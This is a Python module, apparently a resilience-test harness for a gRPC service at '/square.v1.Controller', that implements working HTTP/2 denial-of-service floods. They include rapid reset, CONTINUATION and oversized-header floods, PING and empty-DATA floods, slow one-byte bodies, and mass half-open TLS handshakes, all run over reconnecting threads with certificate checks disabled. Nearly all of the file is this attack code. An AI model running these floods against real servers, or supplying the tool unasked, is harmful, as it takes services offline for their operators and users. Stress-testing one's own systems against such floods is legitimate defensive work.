"""Floods of HTTP/2, frame by frame, by whoever has a certificate or none."""

import contextlib
import socket
import ssl
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
AT_ONCE = 50  # frames in one write
BEGUN_AT_ONCE = 200  # connections
SEND_BUFFER = 32_768  # bytes, that what is sent is nearly what is taken


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_of(method: bytes) -> bytes:
    path = b"/square.v1.Controller/" + method
    fixed = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"
    return fixed + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")


def streams() -> Iterator[int]:
    number = -1
    while True:
        number += 2
        yield number


def open_lines() -> Iterator[bytes]:
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, call_of(b"Attach"))


def open_questions() -> Iterator[bytes]:
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, call_of(b"GetPlan"))


def rapid_reset() -> Iterator[bytes]:
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, call_of(b"Attach")) + frame(RST_STREAM, 0, stream, bytes(4))


def huge_header() -> Iterator[bytes]:
    """Its name is said to have 1 GiB."""
    length, said = (1 << 30) - 127, b"\x7f"
    while length >= 128:
        said += bytes([length % 128 | 128])
        length //= 128
    yield frame(HEADERS, 0, 1, b"\x83\x86\x04\x01/\x00" + said + bytes([length]))
    while True:
        yield frame(CONTINUATION, 0, 1, b"a" * 16_384)


def continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, call_of(b"Attach"))
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 60))


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8))


def empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, call_of(b"Attach"))
    while True:
        yield frame(DATA, 0, 1)


def slow_bodies() -> Iterator[bytes]:
    """Each message is said to have 16 KiB, and one byte of it comes."""
    begun = b"\x00" + (16_384).to_bytes(4, "big") + b"\x0a"
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, call_of(b"GetPlan")) + frame(DATA, 0, stream, begun)


def half_handshakes() -> Iterator[bytes]:
    """Hellos, each for a connection of its own: in turn the beginning of one and a whole one."""
    while True:
        begun = ssl.MemoryBIO()
        client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(
            ssl.MemoryBIO(), begun, server_hostname="square"
        )
        with contextlib.suppress(ssl.SSLWantReadError):
            client.do_handshake()
        hello = begun.read()
        yield hello[:50]
        yield hello


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    one.__name__: one
    for one in (
        open_lines,
        open_questions,
        rapid_reset,
        huge_header,
        continuations,
        pings,
        empty_data,
        slow_bodies,
        half_handshakes,
    )
}
# What comes of these goes over a connection of its own each.
ALONE = {half_handshakes.__name__}


def connect(address: str, identity: Path | None) -> socket.socket:
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=5)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SEND_BUFFER)
    if identity is None:
        return connection
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(identity / "identity.pem")
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


class Flood:
    """Of `seconds`, over `width` connections at a time, each made again when it is cut off."""

    def __init__(
        self, address: str, name: str, identity: Path | None, seconds: float, width: int = 4
    ) -> None:
        self.connections = 0
        self.sent_bytes = 0
        self._address = address
        self._name = name
        self._identity = identity
        self._end = time.monotonic() + seconds
        self._threads = [threading.Thread(target=self._run) for _ in range(width)]
        for thread in self._threads:
            thread.start()

    def _run(self) -> None:
        flood_once = self._begin_many if self._name in ALONE else self._send_over_one
        while time.monotonic() < self._end:
            with contextlib.suppress(OSError):
                flood_once()

    def _connect(self, identity: Path | None) -> socket.socket:
        self.connections += 1
        return connect(self._address, identity)

    def _send(self, connection: socket.socket, some: bytes) -> None:
        connection.sendall(some)
        self.sent_bytes += len(some)

    def _send_over_one(self) -> None:
        with self._connect(self._identity) as connection:
            self._send(connection, PREFACE + frame(SETTINGS, 0, 0))
            frames = FLOODS[self._name]()
            while time.monotonic() < self._end:
                self._send(connection, b"".join(next(frames) for _ in range(AT_ONCE)))

    def _begin_many(self) -> None:
        """Leaves the last BEGUN_AT_ONCE of them open."""
        begun: deque[socket.socket] = deque()
        with contextlib.ExitStack() as left:
            left.callback(lambda: [connection.close() for connection in begun])
            for beginning in FLOODS[self._name]():
                if time.monotonic() >= self._end:
                    return
                begun.append(self._connect(None))
                self._send(begun[-1], beginning)
                if len(begun) == BEGUN_AT_ONCE:
                    begun.popleft().close()

    @property
    def is_over(self) -> bool:
        return not any(thread.is_alive() for thread in self._threads)

    def join(self) -> None:
        for thread in self._threads:
            thread.join()
